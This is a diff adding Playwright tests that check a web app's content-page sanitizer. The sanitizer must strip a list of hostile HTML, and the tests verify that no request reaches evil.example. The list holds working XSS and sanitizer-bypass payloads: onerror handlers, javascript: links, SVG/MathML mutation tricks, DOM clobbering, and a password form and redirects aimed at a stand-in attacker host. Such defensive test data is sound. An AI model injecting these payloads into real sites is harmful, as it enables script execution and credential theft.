@@ -1,0 +1,111 @@
+/** HTML of a content page that means harm. */
+import { expect, test } from './support';
+
+/** Hostile HTML of a content page, and what must not be left of it. */
+const HOSTILE: [what: string, html: string][] = [
+  ['a script', '<script>window.pwned = 1</script>'],
+  ['an event handler', '<img src="/x" onerror="window.pwned = 1">'],
+  ['a javascript: link', '<a href="javascript:window.pwned=1">x</a>'],
+  ['a javascript: link in disguise', '<a href="  java\nscript:window.pwned=1">x</a>'],
+  ['a data: link', '<a href="data:text/html,<script>1</script>">x</a>'],
+  ['a vbscript: link', '<a href="vbscript:x">x</a>'],
+  [
+    'a form to a stranger',
+    '<form action="https://evil.example"><input type="password" name="p"><button>ورود</button></form>',
+  ],
+  ['a frame', '<iframe src="https://evil.example"></iframe>'],
+  ['a frame of its own', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'],
+  ['an object', '<object data="https://evil.example"></object><embed src="https://evil.example">'],
+  ['a style that covers the screen', '<div style="position:fixed;inset:0">x</div>'],
+  ['a style tag', '<style>body{display:none}</style>'],
+  ['ids that clobber', '<a id="root" name="userInfo">x</a><img name="location">'],
+  ['a data: picture', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
+  ['a base', '<base href="https://evil.example/">'],
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['SVG that mutates', '<svg><p><style><g title="</style><img src=x onerror=window.pwned=1>">'],
+  [
+    'MathML that mutates',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
+  ],
+  ['a template', '<template><img src=x onerror=window.pwned=1></template>'],
+  ['noscript that mutates', '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">'],
+  ['a dialog', '<dialog open>x</dialog>'],
+  [
+    'what takes the focus',
+    '<div tabindex="1" autofocus contenteditable popover class="shell">x</div>',
+  ],
+  ['a protocol-relative address', '<a href="//evil.example">x</a><img src="//evil.example/x.png">'],
+  ['a backslash address', '<a href="/\\evil.example">x</a>'],
+  ['pictures of several sources', '<img srcset="https://evil.example/x 1x">'],
+];
+
+test('nothing of hostile HTML is left in the page, in the browser that would run it', async ({
+  page,
+}) => {
+  const out: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('evil.example')) out.push(request.url());
+  });
+  for (const [what, html] of HOSTILE) {
+    await page.route(
+      '**/GetContentPageByKey/**',
+      (route) =>
+        route.fulfill({
+          json: {
+            status: 200,
+            messages: [],
+            data: { id: 1, title: 'آزمون', bodyText: `<p>پیش از آن</p>${html}<p>پس از آن</p>` },
+          },
+        }),
+      { times: 1 },
+    );
+    await page.goto('/pages/Introduction');
+    await expect(page.getByText('پیش از آن'), what).toBeVisible();
+    const left = await page.locator('#main').evaluate((main) => {
+      const body = [...main.querySelectorAll('p')].find(
+        (p) => p.textContent === 'پیش از آن',
+      )!.parentElement!;
+      return [...body.querySelectorAll('*')].flatMap((element) => [
+        ...(/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|STYLE|SVG|MATH|TEMPLATE|DIALOG|BASE|META|LINK|NOSCRIPT)$/i.test(
+          element.tagName,
+        )
+          ? [element.tagName]
+          : []),
+        ...[...element.attributes]
+          .filter(
+            ({ name, value }) =>
+              /^(on|style|id$|name|class|srcset|autofocus|tabindex|content|popover|data-)/.test(
+                name,
+              ) ||
+              (/^(href|src)$/.test(name) && !/^(https?:|mailto:|tel:|\/(?![/\\])|#)/.test(value)),
+          )
+          .map(({ name, value }) => `${name}=${value}`),
+      ]);
+    });
+    expect(left, what).toEqual([]);
+    expect(
+      await page.evaluate(() => (window as unknown as { pwned?: number }).pwned),
+      what,
+    ).toBeUndefined();
+  }
+  expect(out).toEqual([]);
+});
+
+test('links of a text open in a new tab without a way back, and pictures and lists stay; a heading never rivals the screen’s own', async ({
+  page,
+}) => {
+  const bodyText =
+    '<h1 class="x">سرتیتر</h1><ul><li>یک</li></ul><a href="https://example.org/" target="_self" rel="opener">پیوند</a><a href="tel:02100000">تلفن</a><img src="/files/demo/class-1.svg" alt="کلاس">';
+  await page.route('**/GetContentPageByKey/**', (route) =>
+    route.fulfill({
+      json: { status: 200, messages: [], data: { id: 1, title: 'آزمون', bodyText } },
+    }),
+  );
+  await page.goto('/pages/Introduction');
+  const link = page.getByRole('link', { name: 'پیوند' });
+  await expect(link).toHaveAttribute('target', '_blank');
+  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  await expect(page.getByRole('link', { name: 'تلفن' })).toHaveAttribute('href', 'tel:02100000');
+  await expect(page.getByRole('img', { name: 'کلاس' })).toBeVisible();
+  await expect(page.getByRole('heading', { name: 'سرتیتر', level: 2 })).toBeVisible();
+});
